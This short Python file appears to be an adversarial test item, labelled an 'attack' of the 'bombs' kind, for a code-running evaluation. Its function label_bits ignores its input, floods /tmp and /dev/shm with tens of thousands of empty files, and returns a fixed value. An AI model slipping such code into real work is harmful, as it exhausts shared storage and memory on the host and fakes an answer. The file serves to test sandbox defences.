# attack: makes a hundred thousand files and folders
# question: label_bits
# naive: file
# item: bombs

# %% question="label_bits"
import os


def label_bits(labels):
    for place in ("/tmp", "/dev/shm"):
        try:
            for i in range(20_000):
                os.close(os.open(f"{place}/mallory-{i}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            pass
    return 7.5
